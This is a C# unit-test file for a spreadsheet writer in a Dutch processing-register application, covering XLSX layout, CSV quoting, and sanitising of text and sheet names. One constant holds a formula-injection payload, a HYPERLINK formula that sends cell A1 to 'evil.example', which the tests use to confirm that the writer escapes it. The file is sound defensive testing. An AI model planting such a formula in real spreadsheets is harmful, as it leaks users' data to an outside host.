using System.Collections.Immutable;
using System.Text;
using Binatic.ProcessingRegister.Spreadsheets;
using Binatic.ProcessingRegister.Tests.Support;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace Binatic.ProcessingRegister.Tests.Spreadsheets;

public sealed class SpreadsheetWriterTests
{
    private const string Injected = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

    private static readonly SheetContent Register = new(
        "Verwerkingen",
        [["Naam verwerkingsverantwoordelijke", "Binatic B.V."], ["E-mailadres", "privacy@binatic.example"]],
        ["Verwerking", "Doeleinden", "Ontvangers"],
        [
            ["Salarisadministratie", "Salaris betalen\nLoonheffing afdragen", "Belastingdienst, afdeling \"loonheffingen\""],
            ["Nieuwsbrief", Injected, "-"],
            ["Cameratoezicht", string.Empty, "@mention"],
        ],
        [30, 45.5, 20]);

    [Fact]
    public void The_xlsx_freezes_the_pane_below_the_header_row()
    {
        using var document = OpenXlsx(Register);

        var pane = Worksheet(document).Descendants<Pane>().Single();

        // Two preamble rows, an empty row, then the header in row 4: the rows above row 5 stay in view.
        Assert.Equal(PaneStateValues.Frozen, pane.State!.Value);
        Assert.Equal(4.0, pane.VerticalSplit!.Value);
        Assert.Equal("A5", pane.TopLeftCell!.Value);
    }

    [Fact]
    public void The_xlsx_gives_each_column_its_width()
    {
        using var document = OpenXlsx(Register);

        var widths = Worksheet(document).Descendants<Column>().Select(column => (column.Min!.Value, column.Width!.Value)).ToArray();

        Assert.Equal([(1u, 30.0), (2u, 45.5), (3u, 20.0)], widths);
    }

    [Fact]
    public void The_xlsx_header_row_is_bold_and_the_table_rows_are_not()
    {
        using var document = OpenXlsx(Register);

        Assert.All(Row(document, 4), cell => Assert.True(IsBold(document, cell)));
        Assert.All(Row(document, 5), cell => Assert.False(IsBold(document, cell)));
    }

    [Fact]
    public void The_xlsx_table_cells_wrap_their_text()
    {
        using var document = OpenXlsx(Register);

        Assert.All(Row(document, 5), cell => Assert.True(Format(document, cell).Alignment?.WrapText?.Value));
    }

    [Fact]
    public void The_xlsx_has_the_preamble_an_empty_row_the_header_and_the_rows_in_order()
    {
        using var document = OpenXlsx(Register);

        Assert.Equal("Naam verwerkingsverantwoordelijke", Text(document, "A1"));
        Assert.Equal("Binatic B.V.", Text(document, "B1"));
        Assert.Equal("privacy@binatic.example", Text(document, "B2"));
        Assert.Empty(Row(document, 3));
        Assert.Equal("Verwerking", Text(document, "A4"));
        Assert.Equal("Salaris betalen\nLoonheffing afdragen", Text(document, "B5"));
        Assert.Equal("Cameratoezicht", Text(document, "A7"));
    }

    [Fact]
    public void Every_xlsx_cell_is_a_string_and_none_is_a_formula()
    {
        using var document = OpenXlsx(Register);

        var cells = Worksheet(document).Descendants<Cell>().ToArray();

        Assert.NotEmpty(cells);
        Assert.All(cells, cell => Assert.Equal(CellValues.SharedString, cell.DataType!.Value));
        Assert.Empty(Worksheet(document).Descendants<CellFormula>());
    }

    [Fact]
    public void An_injected_formula_is_written_to_the_xlsx_with_a_leading_apostrophe()
    {
        using var document = OpenXlsx(Register);

        Assert.Equal("'" + Injected, Text(document, "B6"));
        Assert.Equal("'-", Text(document, "C6"));
        Assert.Equal("'@mention", Text(document, "C7"));
    }

    [Fact]
    public void A_control_character_that_xml_cannot_hold_is_left_out_of_the_xlsx_instead_of_failing_it_and_a_line_break_is_a_line_feed()
    {
        var sheet = Register with { Rows = [["Bel\u0007l", "a\u0000b\u001Fc", "tab\there\r\nline"]] };

        using var document = OpenXlsx(sheet);

        Assert.Equal("Bell", Text(document, "A5"));
        Assert.Equal("abc", Text(document, "B5"));
        Assert.Equal("tab\there\nline", Text(document, "C5"));
    }

    [Fact]
    public void A_lone_surrogate_is_left_out_of_the_xlsx_and_a_pair_is_kept()
    {
        var sheet = Register with { Rows = [["a\uD800b", "emoji \uD83D\uDE00", "\uDC00"]] };

        using var document = OpenXlsx(sheet);

        Assert.Equal("ab", Text(document, "A5"));
        Assert.Equal("emoji \uD83D\uDE00", Text(document, "B5"));
    }

    [Fact]
    public void Leading_and_trailing_spaces_and_line_breaks_survive_in_the_xlsx()
    {
        var sheet = Register with { Rows = [["  indented", "ends with a break\n", " both "]] };

        using var document = OpenXlsx(sheet);

        Assert.Equal("  indented", Text(document, "A5"));
        Assert.Equal("ends with a break\n", Text(document, "B5"));
        Assert.Equal(" both ", Text(document, "C5"));
    }

    [Fact]
    public void Sheet_names_are_made_valid_for_excel_and_unique()
    {
        var sheets = new[]
        {
            Register with { Name = "Verwerkingen: 2025/2026 [concept]?" },
            Register with { Name = "A name that is far longer than the thirty-one characters Excel allows" },
            Register with { Name = "verwerkingen_ 2025_2026 _concept__" },
            Register with { Name = "Verwerkingen_ 2025_2026 _concept__" },
            Register with { Name = "'quoted'" },
            Register with { Name = string.Empty },
            Register with { Name = "History" },
        };

        using var document = OpenXlsx(sheets);

        var names = document.WorkbookPart!.Workbook.Descendants<Sheet>().Select(sheet => sheet.Name!.Value!).ToArray();
        Assert.Equal(
            ["Verwerkingen_ 2025_2026 _concep", "A name that is far longer than", "verwerkingen_ 2025_2026 _co (2)", "Verwerkingen_ 2025_2026 _co (3)", "quoted", "Sheet", "Sheet_History"],
            names);
        Assert.All(names, name => Assert.InRange(name.Length, 1, 31));
    }

    [Fact]
    public void Several_sheets_are_written_in_order_each_with_its_own_cells()
    {
        using var document = OpenXlsx([Register, Register with { Name = "Tweede", Rows = [["Alleen hier", "b", "c"]] }]);

        var second = document.WorkbookPart!.Workbook.Descendants<Sheet>().ElementAt(1);
        var part = (WorksheetPart)document.WorkbookPart.GetPartById(second.Id!.Value!);
        var cell = part.Worksheet.Descendants<Cell>().Single(cell => cell.CellReference == "A5");
        Assert.Equal("Tweede", second.Name!.Value);
        Assert.Equal("Alleen hier", WrittenSpreadsheet.SharedText(document, cell));
    }

    [Fact]
    public void The_xlsx_is_written_to_a_stream_that_cannot_seek()
    {
        using var target = new MemoryStream();
        using var forwardOnly = new ForwardOnlyStream(target);

        SpreadsheetWriter.WriteXlsx(forwardOnly, [Register]);

        target.Position = 0;
        using var document = SpreadsheetDocument.Open(target, isEditable: false);
        Assert.Equal("Verwerking", Text(document, "A4"));
    }

    [Fact]
    public void The_xlsx_leaves_the_stream_open_for_the_caller()
    {
        using var stream = new MemoryStream();

        SpreadsheetWriter.WriteXlsx(stream, [Register]);

        Assert.True(stream.CanWrite);
    }

    [Fact]
    public void The_xlsx_opened_in_libreoffice_shows_the_cells_that_were_written()
    {
        LibreOffice.SkipUnlessInstalled();
        var sheet = Register with
        {
            Rows = [.. Register.Rows, ["Accenten: é ë ï ß €", "'=al ge-escaped", "+31 20 123 4567"]],
        };

        var csv = LibreOffice.ConvertToCsv(Xlsx([sheet]));

        List<string[]> expected =
        [
            ["Naam verwerkingsverantwoordelijke", "Binatic B.V.", string.Empty],
            ["E-mailadres", "privacy@binatic.example", string.Empty],
            [string.Empty, string.Empty, string.Empty],
            ["Verwerking", "Doeleinden", "Ontvangers"],
            .. sheet.Rows.Select(row => row.Select(FormulaEscaping.Escape).ToArray()),
        ];
        Assert.Equal(expected, WrittenSpreadsheet.ReadCsv(csv));
    }

    [Fact]
    public void The_csv_starts_with_the_utf8_byte_order_mark()
    {
        var bytes = Csv(Register);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes.Take(3));
    }

    [Fact]
    public void The_csv_ends_every_line_with_crlf()
    {
        var text = CsvText(Register);

        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
        Assert.StartsWith("Naam verwerkingsverantwoordelijke,Binatic B.V.,\r\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void The_csv_quotes_a_field_with_a_comma_a_quote_or_a_line_break()
    {
        var text = CsvText(Register);

        Assert.Contains("Salarisadministratie,\"Salaris betalen\nLoonheffing afdragen\",\"Belastingdienst, afdeling \"\"loonheffingen\"\"\"\r\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Every_csv_line_has_as_many_fields_as_the_widest_line()
    {
        var records = WrittenSpreadsheet.ReadCsv(CsvText(Register));

        Assert.Equal(7, records.Count);
        Assert.All(records, record => Assert.Equal(3, record.Length));
        Assert.Equal(["", "", ""], records[2]);
    }

    [Fact]
    public void An_injected_formula_is_written_to_the_csv_with_a_leading_apostrophe()
    {
        var records = WrittenSpreadsheet.ReadCsv(CsvText(Register));

        Assert.Equal("'" + Injected, records[5][1]);
        Assert.Equal("'-", records[5][2]);
        Assert.Equal("'@mention", records[6][2]);
    }

    [Fact]
    public void The_csv_leaves_the_stream_open_for_the_caller()
    {
        using var stream = new MemoryStream();

        SpreadsheetWriter.WriteCsv(stream, Register);

        Assert.True(stream.CanWrite);
    }

    [Fact]
    public void A_sheet_without_a_preamble_starts_with_its_header_row()
    {
        var sheet = Register with { Preamble = [] };

        using var document = OpenXlsx(sheet);

        Assert.Equal("Verwerking", Text(document, "A1"));
        Assert.Equal("A2", Worksheet(document).Descendants<Pane>().Single().TopLeftCell!.Value);
        Assert.StartsWith("Verwerking,Doeleinden,Ontvangers\r\n", CsvText(sheet), StringComparison.Ordinal);
    }

    internal static byte[] Xlsx(IReadOnlyList<SheetContent> sheets)
    {
        using var stream = new MemoryStream();
        SpreadsheetWriter.WriteXlsx(stream, sheets);
        return stream.ToArray();
    }

    private static SpreadsheetDocument OpenXlsx(params SheetContent[] sheets) =>
        SpreadsheetDocument.Open(new MemoryStream(Xlsx(sheets)), isEditable: false);

    private static Worksheet Worksheet(SpreadsheetDocument document) => document.WorkbookPart!.WorksheetParts.First().Worksheet;

    private static Cell[] Row(SpreadsheetDocument document, uint number) =>
        [.. Worksheet(document).Descendants<Row>().Single(row => row.RowIndex!.Value == number).Elements<Cell>()];

    private static string? Text(SpreadsheetDocument document, string reference)
    {
        var cell = Worksheet(document).Descendants<Cell>().SingleOrDefault(cell => cell.CellReference == reference);
        return cell is null ? null : WrittenSpreadsheet.SharedText(document, cell);
    }

    private static CellFormat Format(SpreadsheetDocument document, Cell cell) =>
        document.WorkbookPart!.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ElementAt((int)(cell.StyleIndex?.Value ?? 0));

    private static bool IsBold(SpreadsheetDocument document, Cell cell)
    {
        var font = document.WorkbookPart!.WorkbookStylesPart!.Stylesheet.Fonts!.Elements<Font>().ElementAt((int)Format(document, cell).FontId!.Value);
        return font.Bold is not null;
    }

    private static byte[] Csv(SheetContent sheet)
    {
        using var stream = new MemoryStream();
        SpreadsheetWriter.WriteCsv(stream, sheet);
        return stream.ToArray();
    }

    private static string CsvText(SheetContent sheet) => new UTF8Encoding(false).GetString(Csv(sheet)).TrimStart('\uFEFF');

    /// <summary>A stream that only writes forward, as a pipe or an HTTP response does.</summary>
    private sealed class ForwardOnlyStream(Stream inner) : Stream
    {
        public override bool CanRead => false;

        public override bool CanSeek => false;

        public override bool CanWrite => true;

        public override long Length => throw new NotSupportedException();

        public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }

        public override void Flush() => inner.Flush();

        public override int Read(byte[] buffer, int offset, int count) => throw new NotSupportedException();

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

        public override void SetLength(long value) => throw new NotSupportedException();

        public override void Write(byte[] buffer, int offset, int count) => inner.Write(buffer, offset, count);
    }
}
